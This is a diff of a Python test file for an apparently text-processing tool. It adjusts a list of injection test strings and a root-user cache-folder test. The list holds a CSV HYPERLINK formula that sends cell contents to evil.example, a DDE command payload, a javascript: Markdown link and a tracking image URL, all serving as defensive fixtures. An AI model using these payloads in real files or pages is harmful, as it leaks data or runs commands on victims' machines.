@@ -138,7 +138,7 @@ def _embedding_keys(texts):
 # --- 2. injection: CSV formulas, Markdown and HTML, full document ids ---
 
 HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"Click here for the full statement from the ministry") was posted by the ministry.',
+    '=HYPERLINK("http://evil.example/?"&A1,"The full statement from the ministry") was posted by the ministry.',
     "+cmd|' /C calc'!A0 was the command the attackers sent to the ministry computers that night.",
     "The ministry published a statement [x](javascript:alert(1)) about the talks on Tuesday evening.",
     "The ministry published a photo ![](http://evil.example/track.png) of the talks on Tuesday evening.",
@@ -218,9 +218,9 @@ def test_an_unusable_cache_folder_is_one_line(corpus_copy, tmp_path, kind):
     cache_dir = tmp_path / "cache"
     if kind == "file":
         cache_dir.write_text("x")
+    elif os.geteuid() == 0:  # root writes through file modes; sysfs refuses even root
+        cache_dir = Path("/sys")
     else:
-        if os.geteuid() == 0:
-            pytest.skip("root can write anywhere")
         cache_dir.mkdir(mode=0o500)
     result = invoke("run", str(corpus_copy), "--preset", "offline", "--cache-dir", str(cache_dir / "sub"), "--out", str(tmp_path / "o"))
     one_error_line(result, "cannot use the cache", "--no-cache")
